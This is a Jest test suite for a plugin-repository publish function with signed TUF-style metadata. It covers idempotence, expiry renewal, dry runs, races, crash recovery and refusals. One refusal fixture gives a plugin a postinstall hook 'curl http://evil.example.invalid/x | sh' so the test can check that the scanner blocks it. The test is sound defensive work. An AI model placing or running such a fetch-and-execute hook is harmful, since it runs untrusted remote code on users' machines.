import { beforeEach, describe, expect, it } from '@jest/globals';
import { DEFAULT_LIMITS, packFiles } from '@ragnos-vault/archive';
import { generatePrivateKey, sha256Hex, signerFromPrivateKey } from '@ragnos-vault/crypto';
import type { Signer } from '@ragnos-vault/crypto';
import { memoryCache, openTrustedClient, parsePluginIndex, TIMESTAMP_PATH } from '@ragnos-vault/metadata';
import type { RepositoryStore, TopLevelRole } from '@ragnos-vault/metadata';
import { DEFAULT_POLICY } from '@ragnos-vault/scanner';
import { faultyStore, MemoryRepository, newSigner } from '@ragnos-vault/testing';
import { initialRepository } from './initial-repository.ts';
import { encodeVaultConfig, parseVaultConfig } from './parse-vault-config.ts';
import { publish } from './publish.ts';
import type { PublishInput, PublishPorts, PublishReport } from './publish.ts';

const NOW = new Date();
const ROLES: readonly TopLevelRole[] = ['root', 'targets', 'snapshot', 'timestamp'];
const CONFIG = parseVaultConfig(encodeVaultConfig(new Map(ROLES.map((role) => [role, ['file2:none']]))));
const HELLO = 'plugins/acme/hello/1.0.0/hello-1.0.0.tgz';

let repo: MemoryRepository;
let signers: Map<string, readonly Signer[]>;
let trustedRoot: Uint8Array;
const archives = new Map<string, Uint8Array>();

beforeEach(async () => {
  signers = new Map(ROLES.map((role) => [role, [newSigner()]]));
  const expires = new Map(
    ROLES.map((role) => [role, new Date(NOW.getTime() + (role === 'root' ? 1e11 : 1e9))]),
  );
  const initial = await initialRepository({ signers, expires });
  repo = new MemoryRepository();
  for (const [path, bytes] of initial.files) repo.files.set(path, bytes);
  trustedRoot = initial.root;
});

function plugin(name: string, version: string, source = 'export const hello = 1;\n'): string {
  const files = [
    ['package.json', JSON.stringify({ name, version, type: 'module', main: 'index.js' })],
    ['index.js', source],
  ].map(([path = '', content = '']) => ({ path, mode: 0o644 as const, content: Buffer.from(content) }));
  const key = `${name}@${version}-${source.length}`;
  archives.set(key, packFiles(files));
  return key;
}

function run(
  plugins: readonly string[],
  change: Partial<PublishInput> = {},
  store: RepositoryStore = repo,
): Promise<PublishReport> {
  const input = {
    plugins,
    policy: DEFAULT_POLICY,
    limits: DEFAULT_LIMITS,
    config: CONFIG,
    trustedRoot,
    now: NOW,
    ...change,
  };
  return publish(input, portsOf(store));
}

function portsOf(store: RepositoryStore): PublishPorts {
  return {
    store,
    readPlugin: (source) => Promise.resolve(archives.get(source) ?? Buffer.from(source)),
    openSigners: (role) => Promise.resolve(signers.get(role) ?? []),
  };
}

async function fetchTarget(path: string): Promise<Uint8Array | undefined> {
  const client = openTrustedClient({ trustedRoot, now: NOW }, { fetcher: repo, cache: memoryCache() });
  const target = await client.findTarget(path);
  return target && client.downloadBytes(target);
}

describe('publish', () => {
  it('makes a plugin and its index reachable for a fresh client', async () => {
    const hello = plugin('@acme/hello', '1.0.0');
    const report = await run([hello]);
    expect(report).toMatchObject({
      status: 'published',
      versions: { root: 1, targets: 2, snapshot: 2, timestamp: 2 },
    });
    expect(report.plugins).toMatchObject([
      { name: '@acme/hello', version: '1.0.0', status: 'published', targetPath: HELLO },
    ]);
    expect(Buffer.from((await fetchTarget(HELLO))!)).toEqual(Buffer.from(archives.get(hello)!));
    const index = parsePluginIndex((await fetchTarget('plugins/acme/hello/index.json'))!);
    expect(index).toMatchObject({
      name: '@acme/hello',
      versions: [{ version: '1.0.0', target: HELLO, yanked: false }],
    });
  });

  it('commits several plugins at once, and lists all versions of one', async () => {
    await run([plugin('@acme/hello', '1.0.0'), plugin('@acme/hello', '1.1.0'), plugin('tool', '2.0.0')]);
    const index = parsePluginIndex((await fetchTarget('plugins/acme/hello/index.json'))!);
    expect(index.versions.map(({ version }) => version)).toEqual(['1.0.0', '1.1.0']);
    expect(await fetchTarget('plugins/_/tool/2.0.0/tool-2.0.0.tgz')).toBeDefined();
  });

  it('overwrites timestamp.json only, and as its last write', async () => {
    await run([plugin('@acme/hello', '1.0.0')]);
    const writes = repo.requests.filter(({ verb }) => verb === 'create' || verb === 'replace');
    expect(writes.at(-1)).toEqual({ verb: 'replace', path: TIMESTAMP_PATH });
    expect(writes.filter(({ verb }) => verb === 'replace')).toHaveLength(1);
  });

  it('answers the same bytes again with unchanged, touches no key and writes nothing', async () => {
    const hello = plugin('@acme/hello', '1.0.0');
    await run([hello]);
    const before = new Map(repo.files);
    const openSigners = (): never => {
      throw new Error('a key was touched');
    };
    const report = await publish(
      {
        plugins: [hello],
        policy: DEFAULT_POLICY,
        limits: DEFAULT_LIMITS,
        config: CONFIG,
        trustedRoot,
        now: NOW,
      },
      { ...portsOf(repo), openSigners },
    );
    expect(report.status).toBe('unchanged');
    expect(repo.files).toEqual(before);
  });

  it('publishes although timestamp and snapshot have expired', async () => {
    const past = new Date(NOW.getTime() - 40 * 86_400_000);
    await run([plugin('@acme/hello', '1.0.0')], { now: past }).catch(() => undefined);
    expect((await run([plugin('@acme/hello', '1.1.0')])).status).toBe('published');
  });

  it('renews what has expired, even where nothing is new', async () => {
    const hello = plugin('@acme/hello', '1.0.0');
    await run([hello]);
    const later = new Date(NOW.getTime() + 15 * 86_400_000);
    expect(await run([hello], { now: later })).toMatchObject({
      status: 'published',
      plugins: [{ status: 'unchanged' }],
      versions: { timestamp: 3 },
    });
    expect(await run([hello], { now: later })).toMatchObject({
      status: 'unchanged',
      versions: { timestamp: 3 },
    });
  });

  it('takes a second path for the same archive, and keeps one entry in the index', async () => {
    const hello = plugin('@acme/hello', '1.0.0');
    await run([hello]);
    await run([hello], { targetPath: 'plugins/vendor/hello.tar.gz' });
    expect(await fetchTarget('plugins/vendor/hello.tar.gz')).toBeDefined();
    expect(parsePluginIndex((await fetchTarget('plugins/acme/hello/index.json'))!).versions).toHaveLength(1);
  });

  it('leaves out what is published with other bytes, where it is told to, and publishes the rest', async () => {
    await run([plugin('@acme/hello', '1.0.0')]);
    const before = await fetchTarget(HELLO);
    const plugins = [plugin('@acme/hello', '1.0.0', 'export const other = 2;\n'), plugin('tool', '1.0.0')];
    const report = await run(plugins, { skipExisting: true });
    expect(report.plugins.map(({ status }) => status)).toEqual(['skipped', 'published']);
    expect(await fetchTarget(HELLO)).toEqual(before);
    const files = new Map(repo.files);
    expect(await run(plugins, { skipExisting: true })).toMatchObject({ status: 'unchanged' });
    expect(repo.files).toEqual(files);
  });

  it('refuses two archives of one new version even then', async () => {
    const files = new Map(repo.files);
    const plugins = [plugin('tool', '1.0.0'), plugin('tool', '1.0.0', 'export {};\n')];
    await expect(run(plugins, { skipExisting: true })).rejects.toMatchObject({ code: 'ERR_VERSION_EXISTS' });
    expect(repo.files).toEqual(files);
  });

  it('plans a dry run on the live state, opens no key and writes nothing', async () => {
    const hello = plugin('@acme/hello', '1.0.0');
    await run([hello]);
    const files = new Map(repo.files);
    signers.clear();
    const report = await run([hello, plugin('tool', '1.0.0')], { dryRun: true });
    expect(report).toMatchObject({ status: 'planned', versions: { timestamp: 2 } });
    expect(report.plugins.map(({ status }) => status)).toEqual(['unchanged', 'planned']);
    expect(await run([hello], { dryRun: true })).toMatchObject({ status: 'unchanged' });
    expect(repo.files).toEqual(files);
  });

  it('refuses in a dry run what it would refuse', async () => {
    await run([plugin('@acme/hello', '1.0.0')]);
    const other = plugin('@acme/hello', '1.0.0', 'export const other = 2;\n');
    await expect(run([other], { dryRun: true })).rejects.toMatchObject({ code: 'ERR_VERSION_EXISTS' });
  });
});

describe('publish refuses, and the repository stays as it was:', () => {
  const evil = {
    name: '@acme/evil',
    version: '1.0.0',
    scripts: { postinstall: 'curl http://evil.example.invalid/x | sh' },
  };
  const cases: readonly (readonly [string, string, () => Promise<unknown>])[] = [
    [
      'other bytes of a published version',
      'ERR_VERSION_EXISTS',
      () => run([plugin('@acme/hello', '1.0.0', 'export const other = 2;\n')]),
    ],
    [
      'a published version under another path',
      'ERR_VERSION_EXISTS',
      () => run([plugin('@acme/hello', '1.0.0', 'export {};\n')], { targetPath: 'x.tgz' }),
    ],
    [
      'other bytes under a published path',
      'ERR_VERSION_EXISTS',
      () => run([plugin('@acme/hello', '3.0.0')], { targetPath: HELLO }),
    ],
    [
      'two different archives of one version at once',
      'ERR_VERSION_EXISTS',
      () => run([plugin('tool', '1.0.0'), plugin('tool', '1.0.0', 'export {};\n')]),
    ],
    [
      'a path that is not portable',
      'ERR_TARGET_PATH',
      () => run([plugin('tool', '1.0.0')], { targetPath: '../tool.tgz' }),
    ],
    [
      "the place of another plugin's index",
      'ERR_TARGET_PATH',
      () => run([plugin('tool', '1.0.0')], { targetPath: 'plugins/_/other/index.json' }),
    ],
    [
      'to sign an index that was changed in the store',
      'ERR_TUF_HASH_MISMATCH',
      () => {
        const [path = '', bytes] = [...repo.files].find(([name]) => name.endsWith('.index.json')) ?? [];
        repo.files.set(
          path,
          Buffer.from(
            Buffer.from(bytes ?? [])
              .toString()
              .replace('"yanked": false', '"yanked": true '),
          ),
        );
        return run([plugin('@acme/hello', '1.1.0')]);
      },
    ],
    ['what is no archive', 'ERR_ARCHIVE_FORMAT', () => run(['not an archive'])],
    ['no plugin at all', 'ERR_USAGE', () => run([])],
    [
      'one target path for two plugins',
      'ERR_USAGE',
      () => run([plugin('a', '1.0.0'), plugin('b', '1.0.0')], { targetPath: 'x.tgz' }),
    ],
    [
      'a malicious plugin, and the honest one beside it',
      'ERR_SCAN_BLOCKED',
      () => {
        archives.set(
          'evil',
          packFiles([{ path: 'package.json', mode: 0o644, content: Buffer.from(JSON.stringify(evil)) }]),
        );
        return run([plugin('good', '1.0.0'), 'evil']);
      },
    ],
    [
      'keys that the root does not name',
      'ERR_SIGNER_UNAVAILABLE',
      async () => {
        const stranger = signerFromPrivateKey(await generatePrivateKey('ed25519'));
        signers = new Map(ROLES.map((role) => [role, [stranger]]));
        return run([plugin('tool', '1.0.0')]);
      },
    ],
    [
      'a repository whose targets somebody else signed',
      'ERR_TUF_HASH_MISMATCH',
      () => {
        repo.files.set('metadata/2.targets.json', Buffer.from('{}'));
        return run([plugin('tool', '1.0.0')]);
      },
    ],
  ];

  it.each(cases)('%s (%s)', async (_name, code, attempt) => {
    await run([plugin('@acme/hello', '1.0.0')]);
    const live = repo.files.get(TIMESTAMP_PATH);
    const paths = [...repo.files.keys()].filter((path) => !path.includes('/3.'));
    await expect(attempt()).rejects.toMatchObject({ code });
    expect(repo.files.get(TIMESTAMP_PATH)).toEqual(live);
    expect([...repo.files.keys()]).toEqual(paths);
  });
});

describe('publish into a store that holds other bytes under an archive', () => {
  it('says so instead of calling it a lost race', async () => {
    const tool = plugin('tool', '1.0.0');
    const digest = sha256Hex(archives.get(tool)!);
    repo.files.set(`targets/plugins/_/tool/1.0.0/${digest}.tool-1.0.0.tgz`, Buffer.from('cut'));
    const live = repo.files.get(TIMESTAMP_PATH);
    await expect(run([tool])).rejects.toMatchObject({ code: 'ERR_STORE_EXISTS' });
    expect(repo.files.get(TIMESTAMP_PATH)).toEqual(live);
    expect(repo.files.has('metadata/2.targets.json')).toBe(false);
  });
});

describe('publishers that race', () => {
  it('all succeed, each with its own plugin, and no version has two contents', async () => {
    const names = Array.from({ length: 8 }, (_, at) => `tool-${at}`);
    const reports = await Promise.all(names.map((name) => run([plugin(name, '1.0.0')])));
    expect(new Set(reports.map(({ versions }) => versions.timestamp)).size).toBe(names.length);
    for (const name of names)
      expect(await fetchTarget(`plugins/_/${name}/1.0.0/${name}-1.0.0.tgz`)).toBeDefined();
  });

  it('keep both versions of one plugin in its index', async () => {
    await Promise.all([run([plugin('tool', '1.0.0')]), run([plugin('tool', '1.1.0')])]);
    const index = parsePluginIndex((await fetchTarget('plugins/_/tool/index.json'))!);
    expect(index.versions.map(({ version }) => version)).toEqual(['1.0.0', '1.1.0']);
  });
});

describe('a publish that is cut off', () => {
  it.each(['refused', 'crash', 'answer-lost'] as const)(
    'at any write (%s) leaves a live repository, and the next publish succeeds',
    async (kind) => {
      const fresh = new Map(repo.files);
      for (let call = 1; ; call += 1) {
        repo.files.clear();
        for (const [path, bytes] of fresh) repo.files.set(path, bytes);
        const store = faultyStore(repo, { call, kind });
        const outcome = await run([plugin('@acme/hello', '1.0.0')], {}, store).catch(() => undefined);
        const client = openTrustedClient({ trustedRoot, now: NOW }, { fetcher: repo, cache: memoryCache() });
        const roles = await client.refresh();
        expect(roles.targets.version === 1).toBe(outcome === undefined);
        await run([plugin('@acme/hello', '1.0.0')]);
        expect(await fetchTarget(HELLO)).toBeDefined();
        if (store.calls() < call) break;
      }
    },
  );
});
